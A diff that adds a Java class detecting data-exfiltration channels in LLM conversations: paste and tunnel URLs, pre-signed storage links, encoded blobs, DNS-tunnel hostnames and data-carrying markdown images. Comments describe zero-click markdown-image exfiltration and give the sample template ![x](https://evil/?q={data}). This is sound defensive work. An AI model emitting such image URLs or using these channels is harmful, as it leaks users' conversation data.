@@ -1,0 +1,537 @@
+package io.tappass.pipeline.exfiltration;
+
+import io.tappass.core.governance.Severity;
+import io.tappass.pipeline.internal.KeywordIndex;
+import java.util.ArrayList;
+import java.util.Comparator;
+import java.util.List;
+import java.util.Locale;
+import java.util.Objects;
+import java.util.Set;
+import java.util.TreeMap;
+
+/**
+ * Finds channels for moving data out of a conversation:
+ * <ul>
+ *   <li>URLs of paste sites, request catchers, tunnels, anonymous file drops, out-of-band interaction hosts, chat
+ *       webhooks and object storage (over 120 domains, listed in {@code docs/exfiltration-domains.md}), with
+ *       pre-signed storage URLs ({@code X-Amz-Signature}, {@code X-Goog-Signature}) reported as such;</li>
+ *   <li>large encoded blobs: base64 runs of at least {@code minBase64} characters, hex runs of at least
+ *       {@code minHex};</li>
+ *   <li>markdown (and HTML) images whose URL carries data in its query or path, the classic zero-click exfiltration
+ *       of an LLM answer rendered by a chat UI;</li>
+ *   <li>DNS-tunnel-looking host names: long, high-entropy subdomain labels under a common TLD.</li>
+ * </ul>
+ * Bare domain mentions without a scheme or path are not reported ("I used pastebin.com once"). Plain storage URLs
+ * score 0.5 (severity LOW), so that a threshold above 0.5 ignores them while pre-signed URLs (0.9) still count.
+ *
+ * <p>All scanners are single passes (an Aho-Corasick automaton for the domains); immutable and thread-safe.
+ */
+public final class ExfiltrationDetector {
+
+
+    /** The key for {@link io.tappass.pipeline.scan.TextPart#analysis} under which steps share the default scan. */
+    public static final Object ANALYSIS_KEY = new Object() {
+        @Override
+        public String toString() {
+            return "ExfiltrationDetector.defaults()";
+        }
+    };
+
+    /** Default minimum base64 run length (characters). */
+    public static final int DEFAULT_MIN_BASE64 = 256;
+    /** Default minimum hex run length (characters). */
+    public static final int DEFAULT_MIN_HEX = 200;
+
+    private static final ExfiltrationDetector DEFAULTS = new ExfiltrationDetector(DEFAULT_MIN_BASE64, DEFAULT_MIN_HEX);
+    private static final KeywordIndex DOMAINS;
+
+    static {
+        List<String[]> kws = new ArrayList<>();
+        for (ExfilDomains.Entry e : ExfilDomains.ALL) {
+            kws.add(new String[] {e.domain()});
+        }
+        DOMAINS = new KeywordIndex(kws);
+    }
+
+    /** Common TLDs under which DNS tunnels are registered (file extensions are deliberately absent). */
+    private static final Set<String> TLDS = Set.of("com", "net", "org", "io", "info", "biz", "xyz", "top", "ru",
+            "cn", "tk", "ml", "ga", "cf", "gq", "co", "me", "dev", "app", "site", "online", "club", "cc", "pw", "su",
+            "us", "uk", "de", "fr", "nl", "eu", "link", "live", "cloud", "tech", "store", "space", "fun", "icu", "sh",
+            "ws", "to", "in", "ai", "ly", "gg", "lol", "work", "host", "website", "click", "buzz", "ir", "kp");
+
+    private final int minBase64;
+    private final int minHex;
+
+    private ExfiltrationDetector(int minBase64, int minHex) {
+        this.minBase64 = minBase64;
+        this.minHex = minHex;
+    }
+
+    /** The shared detector with the default thresholds. */
+    public static ExfiltrationDetector defaults() {
+        return DEFAULTS;
+    }
+
+    /**
+     * A detector with other blob thresholds.
+     *
+     * @throws IllegalArgumentException when a threshold is below 16 characters
+     */
+    public static ExfiltrationDetector withThresholds(int minBase64, int minHex) {
+        if (minBase64 < 16 || minHex < 16) {
+            throw new IllegalArgumentException("blob thresholds must be at least 16 characters, got base64="
+                    + minBase64 + ", hex=" + minHex);
+        }
+        return new ExfiltrationDetector(minBase64, minHex);
+    }
+
+    /** The number of service domains in the catalogue. */
+    public static int domainCount() {
+        return ExfilDomains.ALL.size();
+    }
+
+    /**
+     * Scans {@code text}.
+     *
+     * @return the findings sorted by start, non-overlapping
+     */
+    public List<ExfiltrationMatch> scan(String text) {
+        Objects.requireNonNull(text, "text");
+        List<ExfiltrationMatch> out = new ArrayList<>();
+        if (text.indexOf('.') >= 0) {
+            domains(text, out);
+            dnsTunnels(text, out);
+        }
+        if (text.indexOf("![") >= 0 || text.indexOf("<img") >= 0 || text.indexOf("<IMG") >= 0) {
+            images(text, out);
+        }
+        if (text.length() >= Math.min(minBase64, minHex)) {
+            blobs(text, out);
+        }
+        return out.isEmpty() ? List.of() : resolve(out);
+    }
+
+    // ------------------------------------------------------------------ service URLs
+
+    private static boolean hostChar(char c) {
+        return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.'
+                || c == '_';
+    }
+
+    private static boolean urlStop(char c) {
+        return c <= ' ' || c == '"' || c == '\'' || c == '`' || c == '<' || c == '>' || c >= 0x80;
+    }
+
+    private static void domains(String text, List<ExfiltrationMatch> out) {
+        int n = text.length();
+        DOMAINS.find(text, (rule, start, end) -> {
+            ExfilDomains.Entry e = ExfilDomains.ALL.get(rule);
+            if (start > 0) {
+                char b = text.charAt(start - 1);
+                if (Character.isLetterOrDigit(b) || b == '-' || b == '_') {
+                    return;
+                }
+            }
+            if (end < n) {
+                char a = text.charAt(end);
+                boolean pathEntry = e.domain().indexOf('/') >= 0;
+                if (!pathEntry && (Character.isLetterOrDigit(a) || a == '-' || a == '_'
+                        || (a == '.' && end + 1 < n && Character.isLetterOrDigit(text.charAt(end + 1))))) {
+                    return;
+                }
+            }
+            // extend to the whole host, then to the scheme
+            int hs = start;
+            while (hs > 0 && hostChar(text.charAt(hs - 1))) {
+                hs--;
+            }
+            int us = hs;
+            boolean scheme = false;
+            if (us >= 3 && text.startsWith("://", us - 3)) {
+                us -= 3;
+                while (us > 0 && Character.isLetter(text.charAt(us - 1))) {
+                    us--;
+                }
+                scheme = true;
+            } else if (us >= 2 && text.startsWith("//", us - 2)) {
+                us -= 2;
+                scheme = true;
+            }
+            String host = text.substring(hs, end).toLowerCase(Locale.ROOT);
+            if (e.domain().equals("amazonaws.com") && !isS3Host(host)) {
+                return;
+            }
+            int ue = end;
+            while (ue < n && ue < end + 4096 && !urlStop(text.charAt(ue))) {
+                ue++;
+            }
+            while (ue > end && ".,;:!?)]}*".indexOf(text.charAt(ue - 1)) >= 0) {
+                ue--;
+            }
+            boolean hasPath = ue > end + 1 && (text.charAt(end) == '/' || text.charAt(end) == '?'
+                    || text.charAt(end) == ':' || e.domain().indexOf('/') >= 0);
+            if (!scheme && !hasPath) {
+                return; // a bare mention of the service
+            }
+            String url = text.substring(us, ue);
+            String type = e.type();
+            Severity sev;
+            double score;
+            if (type.equals(ExfilDomains.STORAGE)) {
+                if (url.contains("X-Amz-Signature=") || url.contains("X-Amz-Credential=")
+                        || url.contains("X-Goog-Signature=") || url.contains("x-goog-signature=")
+                        || (url.contains("Signature=") && url.contains("AWSAccessKeyId="))
+                        || (url.contains("sig=") && url.contains("sv="))) {
+                    type = "PRESIGNED_URL";
+                    sev = Severity.HIGH;
+                    score = 0.9;
+                } else {
+                    sev = Severity.LOW;
+                    score = 0.5;
+                }
+            } else if (type.equals(ExfilDomains.PASTE) || type.equals(ExfilDomains.FILE)) {
+                sev = Severity.MEDIUM;
+                score = hasPath ? 0.8 : 0.65;
+            } else {
+                sev = Severity.HIGH;
+                score = hasPath ? 0.9 : 0.75;
+            }
+            out.add(new ExfiltrationMatch(type, e.domain(), sev, score, us, ue));
+        });
+    }
+
+    private static boolean isS3Host(String host) {
+        for (String label : host.split("\\.")) {
+            if (label.equals("s3") || label.startsWith("s3-") || label.equals("s3-accelerate")) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    // ------------------------------------------------------------------ encoded blobs
+
+    private void blobs(String text, List<ExfiltrationMatch> out) {
+        int n = text.length();
+        int i = 0;
+        while (i < n) {
+            char c = text.charAt(i);
+            if (!isB64(c)) {
+                i++;
+                continue;
+            }
+            int start = i;
+            int count = 0;
+            int lineLen = 0;
+            boolean hexOnly = true;
+            boolean upper = false;
+            boolean lower = false;
+            boolean digit = false;
+            int p = i;
+            while (p < n) {
+                char d = text.charAt(p);
+                if (d == '=') {
+                    // padding ends a run
+                    while (p < n && text.charAt(p) == '=') {
+                        p++;
+                    }
+                    break;
+                }
+                if (isB64(d)) {
+                    count++;
+                    lineLen++;
+                    hexOnly &= isHex(d);
+                    upper |= d >= 'A' && d <= 'Z';
+                    lower |= d >= 'a' && d <= 'z';
+                    digit |= d >= '0' && d <= '9';
+                    p++;
+                } else if ((d == '\n' || d == '\r') && lineLen >= 60 && p + 1 < n) {
+                    // line-wrapped base64 (MIME/PEM style) continues on the next line
+                    int q = p + 1;
+                    if (d == '\r' && q < n && text.charAt(q) == '\n') {
+                        q++;
+                    }
+                    if (q < n && isB64(text.charAt(q))) {
+                        lineLen = 0;
+                        p = q;
+                    } else {
+                        break;
+                    }
+                } else {
+                    break;
+                }
+            }
+            int end = p;
+            if (count == 0) {
+                i = Math.max(end, i + 1);
+                continue;
+            }
+            if (count >= Math.min(minHex, minBase64) && isArmouredOrInlineImage(text, start)) {
+                i = Math.max(end, i + 1);
+                continue;
+            }
+            if (hexOnly && count >= minHex && digit) {
+                out.add(new ExfiltrationMatch("ENCODED_BLOB", "hex", Severity.MEDIUM, 0.7, start, end));
+            } else if (!hexOnly && count >= minBase64 && upper && lower && digit) {
+                out.add(new ExfiltrationMatch("ENCODED_BLOB", "base64", Severity.MEDIUM, 0.7, start, end));
+            }
+            i = Math.max(end, i + 1);
+        }
+    }
+
+    /**
+     * Whether the run at {@code start} is the body of a PEM block (certificates, public keys; private keys are
+     * detect_secrets' business) or an inline image ({@code data:image/png;base64,...}): encoded, but not smuggled.
+     */
+    private static boolean isArmouredOrInlineImage(String text, int start) {
+        int from = Math.max(0, start - 120);
+        String before = text.substring(from, start);
+        int armour = before.lastIndexOf("-----BEGIN ");
+        if (armour >= 0 && before.indexOf("-----", armour + 11) >= 0) {
+            return true;
+        }
+        int data = before.lastIndexOf("data:");
+        return data >= 0 && before.indexOf(";base64,", data) >= 0 && before.endsWith(",")
+                && before.regionMatches(true, data + 5, "image/", 0, 6);
+    }
+
+    private static boolean isB64(char c) {
+        return c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '+' || c == '/'
+                || c == '=' || c == '_' || c == '-';
+    }
+
+    private static boolean isHex(char c) {
+        return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F';
+    }
+
+    // ------------------------------------------------------------------ images
+
+    private static void images(String text, List<ExfiltrationMatch> out) {
+        int n = text.length();
+        int from = 0;
+        int md = -2;
+        int html = -2;
+        while (true) {
+            if (md != -1 && md < from) {
+                md = text.indexOf("![", from);
+            }
+            if (html != -1 && html < from) {
+                html = indexOfIgnoreCase(text, "<img", from);
+            }
+            if (md < 0 && html < 0) {
+                return;
+            }
+            int at = md < 0 ? html : html < 0 ? md : Math.min(md, html);
+            from = at + 2;
+            int urlStart;
+            int urlEnd;
+            if (at == md) {
+                int close = io.tappass.pipeline.internal.Texts.indexOf(text, "]", at + 2, at + 1000);
+                if (close < 0 || close + 1 >= n || text.charAt(close + 1) != '(') {
+                    continue;
+                }
+                urlStart = close + 2;
+                while (urlStart < n && (text.charAt(urlStart) == ' ' || text.charAt(urlStart) == '<')) {
+                    urlStart++;
+                }
+                urlEnd = urlStart;
+                while (urlEnd < n && urlEnd < urlStart + 8192) {
+                    char c = text.charAt(urlEnd);
+                    if (c <= ' ' || c == ')' || c == '>' || c == '"') {
+                        break;
+                    }
+                    urlEnd++;
+                }
+            } else {
+                int src = indexOfIgnoreCase(text, "src", at, at + 500);
+                int tagEnd = io.tappass.pipeline.internal.Texts.indexOf(text, ">", at, at + 500);
+                if (src < 0 || (tagEnd >= 0 && src > tagEnd)) {
+                    continue;
+                }
+                int q = src + 3;
+                while (q < n && (text.charAt(q) == ' ' || text.charAt(q) == '=')) {
+                    q++;
+                }
+                if (q < n && (text.charAt(q) == '"' || text.charAt(q) == '\'')) {
+                    q++;
+                }
+                urlStart = q;
+                urlEnd = q;
+                while (urlEnd < n && urlEnd < q + 8192) {
+                    char c = text.charAt(urlEnd);
+                    if (c <= ' ' || c == '"' || c == '\'' || c == '>') {
+                        break;
+                    }
+                    urlEnd++;
+                }
+            }
+            if (urlEnd <= urlStart) {
+                continue;
+            }
+            String url = text.substring(urlStart, urlEnd);
+            if (!(url.regionMatches(true, 0, "http://", 0, 7) || url.regionMatches(true, 0, "https://", 0, 8)
+                    || url.startsWith("//"))) {
+                continue;
+            }
+            double score = imageDataScore(url);
+            if (score > 0) {
+                int end = at == md && urlEnd < n && text.charAt(urlEnd) == ')' ? urlEnd + 1 : urlEnd;
+                if (at != md) {
+                    int tagEnd = io.tappass.pipeline.internal.Texts.indexOf(text, ">", urlEnd, urlEnd + 500);
+                    end = tagEnd >= 0 ? tagEnd + 1 : urlEnd;
+                }
+                out.add(new ExfiltrationMatch("MARKDOWN_IMAGE_EXFILTRATION", at == md ? "markdown" : "html",
+                        score >= 0.9 ? Severity.CRITICAL : Severity.HIGH, score, at, end));
+                from = end;
+            }
+        }
+    }
+
+    /** How strongly an image URL looks like it carries data out (0 = not at all). */
+    static double imageDataScore(String url) {
+        String l = url.toLowerCase(Locale.ROOT);
+        // a template the model is asked to fill: ![x](https://evil/?q={data}) / [DATA] / $SECRET / <conversation>
+        if (l.contains("{") || l.contains("[") || l.contains("%7b") || l.contains("$") || l.contains("%5b")) {
+            return 0.95;
+        }
+        int q = url.indexOf('?');
+        if (q >= 0) {
+            String query = url.substring(q + 1);
+            if (query.length() >= 64) {
+                return 0.85;
+            }
+            for (String kv : query.split("&")) {
+                int eq = kv.indexOf('=');
+                String v = eq >= 0 ? kv.substring(eq + 1) : kv;
+                if (v.length() >= 16 && entropy(v) >= 3.0) {
+                    return 0.85;
+                }
+                if (v.length() >= 8 && (v.contains("+") || v.contains("%20"))) {
+                    return 0.8; // words, i.e. conversation text
+                }
+            }
+        }
+        // data in the path: a long encoded segment
+        int hostEnd = url.indexOf('/', url.indexOf("//") + 2);
+        if (hostEnd > 0) {
+            for (String seg : url.substring(hostEnd, q >= 0 ? q : url.length()).split("/")) {
+                if (seg.length() >= 40 && entropy(seg) >= 3.5 && !seg.contains(".")) {
+                    return 0.8;
+                }
+            }
+        }
+        return 0;
+    }
+
+    private static int indexOfIgnoreCase(String text, String needle, int from) {
+        return indexOfIgnoreCase(text, needle, from, Integer.MAX_VALUE);
+    }
+
+    private static int indexOfIgnoreCase(String text, String needle, int from, int limit) {
+        int n = Math.min(text.length() - needle.length(), limit);
+        for (int i = Math.max(0, from); i <= n; i++) {
+            if (text.regionMatches(true, i, needle, 0, needle.length())) {
+                return i;
+            }
+        }
+        return -1;
+    }
+
+    // ------------------------------------------------------------------ DNS tunnels
+
+    private static void dnsTunnels(String text, List<ExfiltrationMatch> out) {
+        int n = text.length();
+        int i = 0;
+        while (i < n) {
+            if (!hostChar(text.charAt(i)) || text.charAt(i) == '.') {
+                i++;
+                continue;
+            }
+            int start = i;
+            int p = i;
+            int dots = 0;
+            while (p < n && hostChar(text.charAt(p))) {
+                dots += text.charAt(p) == '.' ? 1 : 0;
+                p++;
+            }
+            i = p;
+            int end = p;
+            while (end > start && (text.charAt(end - 1) == '.' || text.charAt(end - 1) == '-')) {
+                end--;
+            }
+            if (dots < 2 || end - start < 40 || end - start > 1024) {
+                continue;
+            }
+            String host = text.substring(start, end).toLowerCase(Locale.ROOT);
+            String[] labels = host.split("\\.");
+            if (labels.length < 3 || !TLDS.contains(labels[labels.length - 1])) {
+                continue;
+            }
+            int sub = 0;
+            boolean encodedLabel = false;
+            for (int k = 0; k < labels.length - 2; k++) {
+                String lab = labels[k];
+                if (lab.startsWith("xn--") || lab.length() > 63) {
+                    continue;
+                }
+                sub += lab.length();
+                boolean letters = false;
+                boolean digits = false;
+                for (int j = 0; j < lab.length(); j++) {
+                    char c = lab.charAt(j);
+                    letters |= Character.isLetter(c);
+                    digits |= Character.isDigit(c);
+                }
+                if (lab.length() >= 30 && letters && digits
+                        && (entropy(lab) >= 3.3 || lab.chars().allMatch(c -> isHex((char) c))
+                        || lab.chars().allMatch(c -> c >= 'a' && c <= 'z' || c >= '2' && c <= '7'))) {
+                    encodedLabel = true;
+                }
+            }
+            if (encodedLabel || (sub >= 100 && labels.length >= 5)) {
+                out.add(new ExfiltrationMatch("DNS_TUNNEL_HOSTNAME", labels[labels.length - 2] + "."
+                        + labels[labels.length - 1], Severity.HIGH, encodedLabel ? 0.8 : 0.7, start, end));
+            }
+        }
+    }
+
+    static double entropy(String s) {
+        int[] counts = new int[128];
+        int n = 0;
+        for (int i = 0; i < s.length(); i++) {
+            char c = s.charAt(i);
+            counts[c < 128 ? c : 127]++;
+            n++;
+        }
+        double h = 0;
+        for (int c : counts) {
+            if (c > 0) {
+                double p = (double) c / n;
+                h -= p * (Math.log(p) / Math.log(2));
+            }
+        }
+        return h;
+    }
+
+    // ------------------------------------------------------------------ overlap
+
+    private static List<ExfiltrationMatch> resolve(List<ExfiltrationMatch> found) {
+        List<ExfiltrationMatch> sorted = new ArrayList<>(found);
+        sorted.sort(Comparator.comparingDouble((ExfiltrationMatch m) -> -m.score())
+                .thenComparingInt(m -> -m.length()).thenComparingInt(ExfiltrationMatch::start));
+        TreeMap<Integer, ExfiltrationMatch> kept = new TreeMap<>();
+        for (ExfiltrationMatch m : sorted) {
+            var before = kept.floorEntry(m.start());
+            if (before != null && before.getValue().end() > m.start()) {
+                continue;
+            }
+            var after = kept.ceilingEntry(m.start());
+            if (after != null && after.getKey() < m.end()) {
+                continue;
+            }
+            kept.put(m.start(), m);
+        }
+        return List.copyOf(kept.values());
+    }
+}
